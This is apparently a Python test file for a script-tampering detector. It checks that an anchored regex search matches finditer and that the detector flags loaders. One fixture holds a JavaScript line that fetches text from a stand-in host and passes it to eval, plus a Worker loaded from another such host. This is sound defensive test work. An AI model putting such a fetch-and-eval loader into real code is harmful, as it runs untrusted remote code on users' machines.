"""Anchored search gives exactly the matches of ``finditer``, for patterns that start with an anchor."""

import re

from hypothesis import given
from hypothesis import strategies as st

from tamperwatch.detect.anchored import anchored_finditer, anchored_search
from tamperwatch.detect.fetched_code import fetched_and_run, runner_addresses

_FETCHISH = re.compile(r"(?:\bfetch\s*\(|\$\s*\.\s*get\(|\bjQuery\s*\.\s*get\()\s*(\w*)")
_ANCHORS = ("fetch", "$", "jQuery")
_PIECES = [
    "fetch(",
    "fetch (",
    "xfetch(",
    "$.get(",
    "$ . get(",
    "jQuery.get(",
    "ajQuery.get(",
    "a",
    " ",
    "$",
    "(",
    "q",
]


@given(st.lists(st.sampled_from(_PIECES), max_size=40))
def test_matches_are_finditers(pieces: list[str]) -> None:
    text = "".join(pieces)
    expected = [(m.span(), m.group(1)) for m in _FETCHISH.finditer(text)]
    assert [(m.span(), m.group(1)) for m in anchored_finditer(_FETCHISH, text, _ANCHORS)] == expected
    first = anchored_search(_FETCHISH, text, _ANCHORS)
    assert (first.span() if first else None) == (expected[0][0] if expected else None)


def test_a_word_boundary_still_sees_the_character_before() -> None:
    pattern = re.compile(r"\bimport\(")
    assert [m.start() for m in anchored_finditer(pattern, "ximport( import(", ("import",))] == [9]


def test_loaders_are_found_in_a_long_script() -> None:
    filler = "var a=1;" * 20_000
    code = filler + "fetch('https://cdn.example-loader.net/x.ico').then(r=>r.text()).then(t=>eval(t));"
    code += "new Worker('https://w.example-loader.net/w.js');" + filler
    assert fetched_and_run(code) == ["https://cdn.example-loader.net/x.ico"]
    assert runner_addresses(code) == ["https://w.example-loader.net/w.js"]


@given(st.lists(st.sampled_from(_PIECES), max_size=400))
def test_dense_anchors_hand_over_to_finditer_with_the_same_matches(pieces: list[str]) -> None:
    text = "$" * 2_000 + "".join(pieces)  # more anchors than the places tried in Python
    expected = [(m.span(), m.group(1)) for m in _FETCHISH.finditer(text)]
    assert [(m.span(), m.group(1)) for m in anchored_finditer(_FETCHISH, text, _ANCHORS)] == expected


def test_a_one_letter_name_fetched_many_times_is_searched_once_by_re() -> None:
    # twenty fetches of 'a' and no assignment: each lookup of a's address must not try every 'a'
    code = "eval;" + "fetch(a);" * 20 + "a" * 199_800
    tried: list[int] = []

    class Counting:
        def __init__(self, pattern: re.Pattern[str]) -> None:
            self.pattern = pattern

        def match(self, text: str, pos: int) -> re.Match[str] | None:
            tried.append(pos)
            return self.pattern.match(text, pos)

        def finditer(self, text: str, pos: int) -> object:
            return self.pattern.finditer(text, pos)

    pattern = re.compile(r"\ba\s*=\s*'(x)'")
    assert anchored_search(Counting(pattern), code, ("a",)) is None  # type: ignore[arg-type]
    assert len(tried) <= 64 + len(code) // 256 + 1
    assert fetched_and_run(code) == []
